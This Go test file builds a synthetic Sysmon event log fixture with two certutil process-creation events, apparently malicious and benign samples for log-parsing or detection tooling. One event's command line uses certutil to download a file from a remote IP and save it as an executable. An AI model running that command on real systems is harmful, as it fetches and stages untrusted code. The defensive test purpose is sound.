package evtx

import (
	"bytes"
	"flag"
	"os"
	"path/filepath"
	"testing"
)

var update = flag.Bool("update", false, "write the event log of the fixtures anew")

// TestFixture builds the event log among the recordings of the repository, so
// that what is in it can be read here.
func TestFixture(t *testing.T) {
	b := newLog()
	b.system = []systemElement{
		{"Provider", "Name", "Microsoft-Windows-Sysmon"},
		{"TimeCreated", "SystemTime", "2026-11-19T07:00:01.1245678Z"},
		{"Channel", "", "Microsoft-Windows-Sysmon/Operational"},
		{"Computer", "", "pc-7.retail.example"},
	}
	text := func(name, s string) field { return field{name, kindString, wide(s)} }
	for _, command := range []string{
		`certutil.exe -urlcache -split -f http://203.0.113.77/a.txt C:\Users\Public\a.exe`,
		`certutil.exe -hashfile C:\Users\mira\setup.msi SHA256`,
	} {
		b.event(text("UtcTime", "2026-11-19 07:00:01.123"), text("Image", `C:\Windows\System32\certutil.exe`),
			text("OriginalFileName", "CertUtil.exe"), text("CommandLine", command), text("User", `RETAIL\mira`),
			field{"ProcessId", kindUint32, le(4712, 4)}, field{"LogonId", kindHex64, le(0x3e7ab, 8)},
			text("ParentImage", `C:\Windows\System32\cmd.exe`), text("ParentCommandLine", "cmd.exe"))
	}
	path := filepath.Join("..", "..", "..", "testdata", "recordings", "windows", "sysmon.evtx")
	if *update {
		if err := os.WriteFile(path, b.file(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if !bytes.Equal(readFile(t, path), b.file()) {
		t.Errorf("%s is not what this test builds; -update writes it", path)
	}
}
